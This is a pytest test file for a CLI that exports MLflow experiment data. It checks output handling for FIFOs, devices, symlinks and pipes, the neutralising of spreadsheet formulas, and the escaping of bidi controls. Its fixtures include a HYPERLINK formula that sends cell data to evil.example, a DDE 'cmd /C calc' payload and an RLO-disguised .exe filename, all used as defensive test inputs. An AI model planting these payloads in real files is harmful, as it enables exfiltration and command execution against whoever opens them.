"""Outputs pointed at odd places, as a user points them: ``-o -``, a FIFO, a device, a symlink, a directory, a
full disk, a closed pipe; cells a spreadsheet would run; names that reorder the terminal; a directory as the
store. Every command answers with what was asked or one line and a non-zero exit, and writes nothing else."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import stat
import subprocess
import threading
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from align_track.cli.main import main
from align_track.ingest.pipeline import ingest
from tests.support.factory import config, merit_target, scene, write_run_folder
from tests.support.server_fixtures import align_track_cmd, cli_env

RLO, LRI, PDI = "\u202e", "\u2066", "\u2069"
FORMULA_ADM = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_LLM = "@SUM(1+1)*cmd|' /C calc'!A0"
BIDI_FOLDER = f"rtl{RLO}gpj.exe"  # shown raw, reads as "rtlexe.jpg"
BIDI_ADM = f"{LRI}isolated{PDI}"


def cli(*args: str, env: dict[str, str] | None = None):
    return CliRunner().invoke(main, list(args), catch_exceptions=False, env=env)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, Path]:
    """Two run folders: one named with a right-to-left override whose ADM and LLM are spreadsheet formulas,
    one whose ADM holds bidi isolates and whose target value is negative (a param '-0.5', a plain number)."""
    base = tmp_path_factory.mktemp("hostile-store")
    root = base / "exps"
    write_run_folder(root / BIDI_FOLDER, scenes=[scene("S0"), scene("S1")],
                     cfg=config(adm=FORMULA_ADM, llm=FORMULA_LLM, target=merit_target(0.5)), timing=[1.0, 2.0])
    write_run_folder(root / "plain", scenes=[scene("S0")],
                     cfg=config(adm=BIDI_ADM, llm="-2+3+cmd|' /C calc'!A0", target=merit_target(-0.5)),
                     timing=[3.0])
    uri = f"sqlite:///{base / 'mlflow' / 'mlflow.db'}"
    with pytest.MonkeyPatch.context() as mp:
        mp.delenv("MLFLOW_TRACKING_URI", raising=False)
        mp.setenv("MLFLOW_ENABLE_ASYNC_TRACE_LOGGING", "false")
        summary = ingest(root, uri)
    assert summary.count("ingested") == 2, [o.error for o in summary.failures]
    return uri, root


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """An empty folder for the outputs (tmp_path also holds the test's working directory)."""
    (tmp_path / "out").mkdir()
    return tmp_path / "out"


def one_error_line(stderr: str) -> str:
    """The error a command printed: exactly one line, ending with a newline, no traceback (report's note on the
    metric it pivots aside)."""
    assert "Traceback" not in stderr and "Exception ignored" not in stderr, stderr
    assert stderr.endswith("\n"), repr(stderr)
    lines = [line for line in stderr.splitlines() if not line.startswith("note: ")]
    assert len(lines) == 1 and lines[0].startswith("error: "), stderr
    return lines[0]


def device(tmp_path: Path, name: str) -> Path:
    """A character device that behaves as /dev/<name> (null or full). As root, a node of our own in tmp: a
    regression that replaced the output with a file must not take the machine's /dev/null with it."""
    if os.geteuid() != 0:
        return Path("/dev") / name
    node = tmp_path / f"dev-{name}"
    try:
        os.mknod(node, stat.S_IFCHR | 0o666, os.makedev(1, {"null": 3, "full": 7}[name]))
        with open(node, "wb"):
            pass
    except OSError as exc:  # no CAP_MKNOD, or a nodev mount
        pytest.skip(f"cannot make a device node to write to as root ({exc.strerror}); the real /dev/{name} "
                    "would be at stake")
    return node


# --------------------------------------------------------------------------- -o: FIFO, device, symlink, directory


class FifoReader:
    """Reads a FIFO to its end in a thread, as ``cat fifo`` would. The test holds the FIFO open for writing
    too, so the reader's open never waits on a writer that does not come (an export that replaced the FIFO
    by a file): closing ours ends the read. The reader has the FIFO open before the command starts (a pipe
    whose every end is closed drops what was written into it)."""

    def __init__(self, path: Path):
        os.mkfifo(path)
        self.keep = os.open(path, os.O_RDWR)
        self.data = b""
        self.opened = threading.Event()
        self.thread = threading.Thread(target=self._read, args=(path,), daemon=True)
        self.thread.start()
        assert self.opened.wait(timeout=30)

    def _read(self, path: Path) -> None:
        with open(path, "rb") as fh:
            self.opened.set()
            self.data = fh.read()

    def finish(self) -> bytes:
        os.close(self.keep)
        self.thread.join(timeout=30)
        assert not self.thread.is_alive()
        return self.data


@pytest.mark.parametrize("fmt", ["csv", "tsv", "json", "xlsx"])
def test_export_to_a_fifo_writes_into_it_and_leaves_it_a_fifo(hostile: tuple[str, Path], out: Path,
                                                              fmt: str) -> None:
    fifo = out / "runs.pipe"
    reader = FifoReader(fifo)
    result = cli("export", "--mlflow-uri", hostile[0], "-o", str(fifo), "--format", fmt)
    data = reader.finish()
    assert result.exit_code == 0, result.output
    assert stat.S_ISFIFO(fifo.lstat().st_mode), "the FIFO was replaced by a file"
    assert os.listdir(out) == ["runs.pipe"]  # no temp file left beside it
    if fmt == "xlsx":
        rows = list(load_workbook(io.BytesIO(data))["runs"].iter_rows(values_only=True))
        assert len(rows) == 3
    elif fmt == "json":
        assert len(json.loads(data)) == 2
    else:
        assert len(list(csv.reader(io.StringIO(data.decode()), delimiter="," if fmt == "csv" else "\t"))) == 3


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx", "png"])
def test_report_to_a_fifo_writes_into_it(hostile: tuple[str, Path], out: Path, fmt: str) -> None:
    fifo = out / "report.pipe"
    reader = FifoReader(fifo)
    result = cli("report", "--mlflow-uri", hostile[0], "-o", str(fifo), "--format", fmt)
    data = reader.finish()
    assert result.exit_code == 0, result.output
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert data.startswith({"csv": b"alignment_target_id", "json": b"{", "xlsx": b"PK", "png": b"\x89PNG"}[fmt])


@pytest.mark.parametrize("command", [["export"], ["report", "--format", "csv"], ["report", "--format", "xlsx"],
                                     ["scenes", "--format", "xlsx"]])
def test_null_device_stays_a_device_and_a_full_one_is_one_line(hostile: tuple[str, Path], out: Path,
                                                              command: list[str]) -> None:
    null, full = device(out, "null"), device(out, "full")
    fmt = ["--format", "csv"] if command == ["export"] else []
    ok = cli(*command, "--mlflow-uri", hostile[0], "-o", str(null), *fmt)
    assert ok.exit_code == 0, ok.output
    assert stat.S_ISCHR(null.lstat().st_mode), f"{null} was replaced by a regular file"
    bad = cli(*command, "--mlflow-uri", hostile[0], "-o", str(full), *fmt)
    assert bad.exit_code == 2, bad.output
    assert one_error_line(bad.stderr) == f"error: cannot write {full}: No space left on device"
    assert stat.S_ISCHR(full.lstat().st_mode)
    assert sorted(p.name for p in out.iterdir()) == sorted({null.name, full.name} & {"dev-null", "dev-full"})


def test_a_symlink_is_followed_to_its_target_and_kept(hostile: tuple[str, Path], out: Path) -> None:
    target = out / "data" / "runs.csv"
    target.parent.mkdir()
    target.write_text("old\n")
    link = out / "latest.csv"
    link.symlink_to(target)
    result = cli("export", "--mlflow-uri", hostile[0], "-o", str(link))
    assert result.exit_code == 0, result.output
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert target.read_text().startswith("run_id,")
    assert sorted(os.listdir(target.parent)) == ["runs.csv"]  # written atomically beside the target

    dangling = out / "next.csv"
    dangling.symlink_to(out / "data" / "new.csv")
    result = cli("report", "--mlflow-uri", hostile[0], "-o", str(dangling))
    assert result.exit_code == 0, result.output
    assert dangling.is_symlink() and (out / "data" / "new.csv").read_text().startswith("alignment_target_id")


@pytest.mark.parametrize("command", ["export", "report", "scenes"])
def test_a_directory_or_a_link_to_one_is_one_line(hostile: tuple[str, Path], out: Path, command: str) -> None:
    folder = out / "out.csv"
    folder.mkdir()
    link = out / "link.csv"
    link.symlink_to(folder)
    for output in (folder, link):
        result = cli(command, "--mlflow-uri", hostile[0], "-o", str(output))
        assert result.exit_code == 2
        assert "is a directory" in one_error_line(result.stderr)
    assert link.is_symlink() and folder.is_dir() and not list(folder.iterdir())
    missing = cli(command, "--mlflow-uri", hostile[0], "-o", str(out / "nope" / "r.csv"))
    assert missing.exit_code == 2 and "folder does not exist" in one_error_line(missing.stderr)


@pytest.mark.parametrize("alias", ["/dev/fd/1", "/proc/self/fd/1"])
def test_an_alias_of_stdout_is_written_straight_and_nothing_else_lands_in_it(hostile: tuple[str, Path],
                                                                             out: Path, alias: str) -> None:
    """``-o /dev/fd/1 > runs.xlsx`` and into a pipe: the redirected file or the pipe gets the export and only
    that (no "wrote ..." line inside the workbook). Never the real /dev/stdout here: a regression replacing it
    by a file would do so for the whole machine."""
    redirected = out / "runs.xlsx"
    for _ in range(2):  # the second time over an existing file, as a rerun does
        with open(redirected, "wb") as fh:
            proc = subprocess.run(align_track_cmd("export", "--mlflow-uri", hostile[0], "-o", alias, "--format",
                                                  "xlsx"), stdout=fh, stderr=subprocess.PIPE, text=True,
                                  env=cli_env(), timeout=120, stdin=subprocess.DEVNULL)
        assert proc.returncode == 0, proc.stderr
        with zipfile.ZipFile(redirected) as book:
            assert book.testzip() is None
        assert load_workbook(redirected)["runs"].max_row == 3
    piped = subprocess.run(align_track_cmd("report", "--mlflow-uri", hostile[0], "-o", alias, "--format", "csv"),
                           capture_output=True, text=True, env=cli_env(), timeout=120, stdin=subprocess.DEVNULL)
    assert piped.returncode == 0, piped.stderr
    header, *rows = _cells(piped.stdout)
    assert header[0] == "alignment_target_id \\ adm" and len(rows) == 2, piped.stdout
    assert os.listdir(out) == ["runs.xlsx"]


# --------------------------------------------------------------------------- -o -


@pytest.mark.parametrize("fmt", ["csv", "json", "svg"])
def test_report_dash_is_standard_output_not_a_file_named_dash(hostile: tuple[str, Path], fmt: str) -> None:
    args = ["report", "--mlflow-uri", hostile[0], "-o", "-"] + (["--format", fmt] if fmt != "csv" else [])
    result = cli(*args)
    assert result.exit_code == 0, result.output
    assert not Path("-").exists()
    if fmt == "csv":
        header, *rows = list(csv.reader(io.StringIO(result.stdout)))
        assert header[0] == "alignment_target_id \\ adm" and len(rows) == 2
    elif fmt == "json":
        assert json.loads(result.stdout)["runs"] == 2
    else:
        assert result.stdout.lstrip().startswith("<?xml") and "</svg>" in result.stdout
    assert "wrote" not in result.stdout  # only the report itself on standard output


@pytest.mark.parametrize("command", [["export", "--format", "xlsx"], ["report", "--format", "xlsx"],
                                     ["report", "--format", "png"]])
def test_binary_formats_flow_into_a_pipe(hostile: tuple[str, Path], command: list[str]) -> None:
    result = CliRunner().invoke(main, [*command, "--mlflow-uri", hostile[0], "-o", "-"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    if "png" in command:
        assert result.stdout_bytes.startswith(b"\x89PNG")
    else:
        sheets = load_workbook(io.BytesIO(result.stdout_bytes)).sheetnames
        assert sheets[0] == ("runs" if command[0] == "export" else "report")
    assert not Path("-").exists()


@pytest.mark.parametrize("command", [["export", "--format", "xlsx"], ["report", "--format", "png"]])
def test_binary_formats_are_refused_on_a_terminal(tmp_path: Path, command: list[str]) -> None:
    """Refused before the store is even opened (it does not exist here): one line, exit 2, nothing on the tty."""
    main_fd, child_fd = pty.openpty()
    try:
        proc = subprocess.run(align_track_cmd(*command, "-o", "-", "--mlflow-uri",
                                              f"sqlite:///{tmp_path / 'none.db'}"),
                              stdout=child_fd, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True,
                              env=cli_env(), timeout=60, cwd=tmp_path)
    finally:
        os.close(child_fd)
    os.set_blocking(main_fd, False)
    try:
        shown = os.read(main_fd, 65536)
    except OSError:  # nothing was written (EAGAIN), or the terminal's other end is closed (EIO)
        shown = b""
    os.close(main_fd)
    assert proc.returncode == 2
    fmt = command[-1]
    assert one_error_line(proc.stderr) == (f"error: {fmt} is a binary file and standard output is a terminal: "
                                           f"redirect it (-o - > out.{fmt}) or write a file with -o out.{fmt}")
    assert shown == b"" and not (tmp_path / "-").exists()


# --------------------------------------------------------------------------- standard output that fails


STDOUT_COMMANDS = {
    "search": ["search"],
    "search-csv": ["search", "--format", "csv"],
    "list-runs": ["list-runs"],
    "export": ["export", "-o", "-"],
    "report": ["report"],
    "report-dash": ["report", "-o", "-", "--format", "json"],
    "scenes": ["scenes"],
    "scenes-tsv": ["scenes", "--format", "tsv"],
}


@pytest.mark.parametrize("name", [*STDOUT_COMMANDS, "help"])
def test_a_failed_write_to_stdout_is_one_line_and_exit_2(hostile: tuple[str, Path], name: str) -> None:
    """``> /dev/full``: every write fails with ENOSPC (the real device: a redirect never replaces it)."""
    args = ["--help"] if name == "help" else [*STDOUT_COMMANDS[name], "--mlflow-uri", hostile[0]]
    with open("/dev/full", "w") as full:
        proc = subprocess.run(align_track_cmd(*args), stdout=full,
                              stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True, env=cli_env(),
                              timeout=120)
    assert proc.returncode == 2, proc.stderr
    assert one_error_line(proc.stderr) == "error: cannot write to standard output: No space left on device"


def test_ingest_and_demo_data_summaries_to_a_full_stdout(hostile: tuple[str, Path], tmp_path: Path) -> None:
    """The ingest's progress lines go to stderr; its closing summary (stdout) is what fails, after the runs are
    stored."""
    uri, root = hostile
    with open("/dev/full", "w") as full:
        again = subprocess.run(align_track_cmd("ingest", "--experiments-dir", str(root), "--mlflow-uri", uri),
                               stdout=full, stderr=subprocess.PIPE, text=True, env=cli_env(), timeout=120)
        demo = subprocess.run(align_track_cmd("demo-data", str(tmp_path / "demo"), "--experiments", "1",
                                              "--scenes", "1"),
                              stdout=full, stderr=subprocess.PIPE, text=True, env=cli_env(), timeout=120)
    failed = "error: cannot write to standard output: No space left on device"
    assert again.returncode == 2, again.stderr
    progress, last = again.stderr.splitlines()[:-1], again.stderr.splitlines()[-1]
    assert last == failed and progress[0] == "found 2 run folders" and len(progress) == 3, again.stderr
    assert demo.returncode == 2 and one_error_line(demo.stderr) == failed


@pytest.mark.parametrize("command", [["search"], ["export", "-o", "-"],
                                     ["report", "-o", "-", "--values", "timing.avg_seconds"]])
def test_a_closed_pipe_stays_quiet(hostile: tuple[str, Path], command: list[str]) -> None:
    """``| head -0``: the reader is gone before the first write; no error, no traceback (click's exit 1)."""
    proc = subprocess.Popen(align_track_cmd(*command, "--mlflow-uri", hostile[0]), stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, env=cli_env())
    proc.stdout.close()
    stderr = proc.stderr.read()
    assert proc.wait(timeout=120) == 1
    assert stderr == b""


# --------------------------------------------------------------------------- formulas in csv/tsv


def _cells(text: str, sep: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=sep))


def test_csv_and_tsv_cells_a_spreadsheet_would_run_are_neutralised(hostile: tuple[str, Path], tmp_path: Path) -> None:
    uri = hostile[0]
    for fmt, sep in (("csv", ","), ("tsv", "\t")):
        out = tmp_path / f"runs.{fmt}"
        assert cli("export", "--mlflow-uri", uri, "-o", str(out)).exit_code == 0
        header, *rows = _cells(out.read_text(), sep)
        by_adm = {row[header.index("params.adm")]: dict(zip(header, row, strict=True)) for row in rows}
        formula = by_adm["'" + FORMULA_ADM]
        assert formula["tags.adm"] == "'" + FORMULA_ADM and formula["params.llm_backbone"] == "'" + FORMULA_LLM
        plain = by_adm[BIDI_ADM]
        assert plain["params.kdma.merit"] == "-0.5"  # text that is a plain number stays a number
        assert plain["params.llm_backbone"] == "'-2+3+cmd|' /C calc'!A0"
        assert float(plain["metrics.timing.avg_seconds"]) == 3.0
    raw = cli("export", "--mlflow-uri", uri, "-o", "-", "--raw-cells")
    header, *rows = _cells(raw.stdout)
    assert FORMULA_ADM in {row[header.index("params.adm")] for row in rows}

    searched = cli("search", "--mlflow-uri", uri, "--format", "csv")
    header, *rows = _cells(searched.stdout)
    assert {row[header.index("adm")] for row in rows} == {"'" + FORMULA_ADM, BIDI_ADM}
    header, *rows = _cells(cli("search", "--mlflow-uri", uri, "--format", "tsv", "--raw-cells").stdout, "\t")
    assert FORMULA_ADM in {row[header.index("adm")] for row in rows}

    pivot = cli("report", "--mlflow-uri", uri, "--rows", "adm", "--cols", "llm", "-o", "-")
    header, *rows = _cells(pivot.stdout)
    assert "'" + FORMULA_LLM in header and "'" + FORMULA_ADM in {row[0] for row in rows}


def test_xlsx_keeps_formula_like_text_as_text(hostile: tuple[str, Path], tmp_path: Path) -> None:
    """No neutralising needed in xlsx: the text is stored as a string cell, never a formula element."""
    for command, extra, hostile_text in (("export", [], FORMULA_ADM), ("report", ["--cols", "llm"], FORMULA_LLM)):
        out = tmp_path / f"{command}.xlsx"
        assert cli(command, "--mlflow-uri", hostile[0], "-o", str(out), *extra).exit_code == 0
        with zipfile.ZipFile(out) as book:
            sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
        values = {c for ws in load_workbook(out) for row in ws.iter_rows(values_only=True) for c in row}
        assert hostile_text in values


# --------------------------------------------------------------------------- bidi controls


def test_bidi_controls_are_escaped_in_tables_links_and_errors(hostile: tuple[str, Path], tmp_path: Path) -> None:
    uri = hostile[0]
    bidi = {chr(c) for c in (0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0x200E,
                             0x200F, 0x061C)}
    outputs = {
        "search": cli("search", "--mlflow-uri", uri).output,
        "list-runs": cli("list-runs", "--mlflow-uri", uri).output,
        "links": cli("list-runs", "--mlflow-uri", uri, "--with-links").output,
        "report": cli("report", "--mlflow-uri", uri, "--rows", "adm", "--cols", "experiment_path").output,
        "error": cli("export", "--mlflow-uri", uri, "-o", str(tmp_path / f"x{RLO}" / "r.csv")).output,
    }
    for name, text in outputs.items():
        assert not bidi & set(text), (name, text)
    assert "rtl\\u202egpj.exe" in outputs["search"] and "\\u2066isolated\\u2069" in outputs["list-runs"]
    assert "rtl\\u202egpj.exe" in outputs["links"] and "\\u2066isolated\\u2069" in outputs["report"]
    assert "x\\u202e" in outputs["error"]


def test_bidi_in_a_progress_line_and_the_tui_status_bar_is_escaped() -> None:
    from align_track.cli.progress import PlainProgress
    from align_track.ingest.outcomes import Event, Outcome
    from align_track.tui.widgets.status import StatusBar

    stream = io.StringIO()
    progress = PlainProgress(stream)
    outcome = Outcome(path=BIDI_FOLDER, status="failed", error=f"{BIDI_FOLDER}: input_output.json: bad")
    progress(Event("run_folder", done=1, total=1, scenes=0, elapsed=1.0, outcome=outcome))
    progress(Event("message", message=f"{BIDI_FOLDER}: param 'x' truncated"))
    assert RLO not in stream.getvalue() and stream.getvalue().count("rtl\\u202egpj.exe") == 3

    bar = StatusBar()
    bar.store, bar.error = f"sqlite:///tmp/{BIDI_FOLDER}/mlflow.db · exp", ""
    bar.state, bar.ingest = f"1 run {LRI}x{PDI}", f"ingest {RLO}1/2"
    assert not {RLO, LRI, PDI} & set(bar.render().plain), bar.render().plain
    bar.error = f"cannot open {BIDI_FOLDER}"
    assert "rtl\\u202egpj.exe" in bar.render().plain


# --------------------------------------------------------------------------- a directory as the store


@pytest.mark.parametrize("kind", ["empty", "with-db", "file-store", "file-uri", "env"])
def test_a_directory_as_the_store_is_one_line_naming_a_database_uri(tmp_path: Path, kind: str) -> None:
    folder = tmp_path / "mlruns"
    folder.mkdir()
    env = None
    uri = str(folder)
    if kind == "with-db":
        (folder / "mlflow.db").write_bytes(b"")
    elif kind == "file-store":
        (folder / "0").mkdir()
        (folder / "0" / "meta.yaml").write_text("name: Default\n")
    elif kind == "file-uri":
        uri = folder.as_uri()
    args = ["search", "--mlflow-uri", uri]
    if kind == "env":
        args, env = ["list-runs"], {"MLFLOW_TRACKING_URI": str(folder)}
    result = cli(*args, env=env)
    assert result.exit_code == 2
    line = one_error_line(result.stderr)
    assert "align-track needs a database" in line
    expected = {
        "empty": f"--mlflow-uri sqlite:///{folder}/mlflow.db",
        "with-db": f"did you mean --mlflow-uri sqlite:///{folder}/mlflow.db ?",
        "file-store": f"mlflow migrate-filestore --source {folder} --target sqlite:///{tmp_path}/mlflow.db",
        "file-uri": f"--mlflow-uri sqlite:///{folder}/mlflow.db",
        "env": f"$MLFLOW_TRACKING_URI ({folder}) is a directory",
    }[kind]
    assert expected in line, line
    assert sorted(os.listdir(folder)) == {"empty": [], "with-db": ["mlflow.db"], "file-store": ["0"],
                                          "file-uri": [], "env": []}[kind]


def test_a_user_who_opts_into_the_file_store_gets_mlflows_behaviour(tmp_path: Path) -> None:
    result = cli("search", "--mlflow-uri", str(tmp_path), env={"MLFLOW_ALLOW_FILE_STORE": "true"})
    assert "align-track needs a database" not in result.output
